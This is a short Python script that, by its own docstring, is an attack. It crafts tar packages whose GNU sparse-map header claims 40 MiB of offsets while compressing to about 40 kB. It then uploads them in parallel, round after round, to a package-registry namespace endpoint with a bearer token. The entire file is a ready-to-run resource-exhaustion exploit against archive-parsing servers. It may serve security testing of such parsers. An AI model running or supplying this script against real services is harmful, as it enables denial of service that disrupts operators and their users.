"""An attack: send packages whose sparse map has 40 MiB and packs to 40 kB, several at once, again and again.

usage: sparse_packages.py URL TOKEN NAMESPACE ROUNDS    Print the status of each answer.
"""

import hashlib
import io
import sys
import tarfile
import urllib.error
import urllib.request
import zlib
from concurrent.futures import ThreadPoolExecutor

MAP_BYTES = 40 << 20
KEYS = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "train.py", "GNU.sparse.realsize": "9"}


def sparse_package(number: int) -> bytes:
    """Return a package of one file. A reader that trusts the map builds twenty million numbers from 40 kB."""
    pairs = MAP_BYTES // 4
    content = f"{pairs}\n".encode() + b"0\n" * (2 * pairs)
    content += bytes(-len(content) % tarfile.BLOCKSIZE)
    member = tarfile.TarInfo(f"train{number}.py")
    member.size, member.pax_headers = len(content), KEYS
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w", format=tarfile.PAX_FORMAT) as archive:
        archive.addfile(member, io.BytesIO(content))
    press = zlib.compressobj(9, zlib.DEFLATED, 31)
    return press.compress(plain.getvalue()) + press.flush()


def send(url: str, token: str, namespace: str, content: bytes) -> int:
    digest = hashlib.sha256(content).hexdigest()
    address = f"{url}/v1/namespaces/{namespace}/packages/sha256:{digest}"
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/octet-stream"}
    request = urllib.request.Request(address, content, headers, method="PUT")
    try:
        with urllib.request.urlopen(request, timeout=300) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code


def attack(url: str, token: str, namespace: str, rounds: int) -> list[int]:
    packages = [sparse_package(number) for number in range(4)]
    print(f"{sum(map(len, packages))} bytes in each round", flush=True)
    with ThreadPoolExecutor(len(packages)) as senders:
        return list(senders.map(lambda content: send(url, token, namespace, content), packages * rounds))


if __name__ == "__main__":
    print("answers", *attack(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])), flush=True)
